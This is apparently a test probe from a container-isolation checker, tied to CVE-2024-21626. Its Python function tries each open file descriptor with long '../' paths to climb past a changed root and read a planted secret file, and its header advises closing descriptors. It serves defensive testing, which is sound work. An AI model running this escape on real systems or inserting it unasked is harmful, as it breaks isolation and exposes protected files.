# title: Climb out of a folder that was left open
# tries: Goes from the working folder and from every folder that is still open up to the root, and down to a planted file. A folder opened before the change of root leads past it.
# impact: Escape
# reference: CVE-2024-21626
# proof: secret
# host: run
# advice: Close every descriptor before the code runs, and change the working folder after the change of root.


def attempt(host):
    import os

    # The program's folder of the moment has no descriptor as long as nobody opens it.
    working_folder = os.open(".", os.O_PATH)
    up_and_down = "../" * 40 + host["secret_file"].lstrip("/")
    refusal = None
    for folder in (working_folder, *range(3, 256)):
        try:
            file = os.open(up_and_down, os.O_RDONLY, dir_fd=folder)
            with open(file) as opened:
                return opened.read()
        except (FileNotFoundError, PermissionError) as error:
            refusal = error
        except OSError:
            pass  # Not open, or not a folder.
    raise refusal
